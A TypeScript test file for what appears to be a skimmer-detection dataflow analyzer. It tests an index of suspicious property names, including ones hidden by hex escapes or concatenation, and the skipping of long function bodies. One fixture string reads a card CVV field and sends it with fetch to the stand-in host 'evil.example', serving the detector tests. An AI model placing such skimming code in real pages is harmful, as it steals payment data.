import { describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { parseScript } from '../../src/analyze/parse.ts';
import { collectFacts } from '../../src/analyze/dataflow/facts.ts';
import { ElementOracle, findSources } from '../../src/analyze/dataflow/sources.ts';
import { propagate } from '../../src/analyze/dataflow/flow.ts';
import { AnchorIndex } from '../../src/analyze/relevance.ts';

/** A long function body with no anchor at all: arithmetic on its parameter. */
const utility = (name: string): string => {
  const lines = Array.from({ length: 30 }, (_, i) => `  acc = (acc * 31 + ${i}) % 1000003; out.push(acc + s.length);`);
  return `function ${name}(s) {\n  var acc = 7, out = [];\n${lines.join('\n')}\n  runningTotal = acc;\n  return s + out.join("");\n}\n`;
};

function analyse(code: string) {
  const { program } = parseScript(code);
  const facts = collectFacts(program, { anchors: new AnchorIndex(code) });
  const flows = propagate(facts, findSources(facts, new ElementOracle(facts)), code).flows;
  return { facts, flows };
}

describe('anchor index', () => {
  test('finds anchors by name and by hiding syntax, and answers range queries', () => {
    const code = 'var a = 1; x.value; var b = 2; var c = "\\x76"; var d = "va" + "lue";';
    const index = new AnchorIndex(code);
    const at = (text: string): number => code.indexOf(text);
    assert.equal(index.hasAnchor(0, at('x.value')), false);
    assert.equal(index.hasAnchor(at('x.value'), at('var b')), true);
    assert.equal(index.hasAnchor(at('var b'), at('var c')), false);
    assert.equal(index.hasAnchor(at('var c'), at('var d')), true, 'a hex escape can spell any name');
    assert.equal(index.hasAnchor(at('var d'), code.length), true, 'concatenated literals can spell any name');
  });

  test('a name is an anchor only as a whole word', () => {
    const index = new AnchorIndex('var evaluate = values + srcset;');
    assert.equal(index.hasAnchor(0, 31), false);
  });
});

describe('skipping function bodies without anchors', () => {
  test('a long utility function is opaque and its identifiers are not walked; an anchored one is walked', () => {
    const code = `${utility('mix')}function grab() { return document.getElementById("cc").value; }`;
    const { facts } = analyse(code);
    const [mix, grab] = facts.functions;
    assert.equal(mix?.opaque, true);
    assert.notEqual(grab?.opaque, true);
    assert.equal(facts.globals.has('document'), true);
    assert.equal(facts.globals.has('runningTotal'), false, 'the opaque body was not walked');
    const walked = collectFacts(parseScript(code).program);
    assert.equal(walked.globals.has('runningTotal'), true, 'without anchors every body is walked');
  });

  test('short functions are always walked, whatever they contain', () => {
    const { facts } = analyse('function add(a, b) { return a + b; }');
    assert.notEqual(facts.functions[0]?.opaque, true);
  });

  test('data passed through an opaque function still reaches the sink (its result carries its arguments)', () => {
    const code = `${utility('mix')}var v = document.getElementById("cvv").value; fetch("https://evil.example/c?d=" + mix(v));`;
    const { flows } = analyse(code);
    assert.equal(flows.length, 1);
    assert.equal(flows[0]?.sink.host, 'evil.example');
  });
});
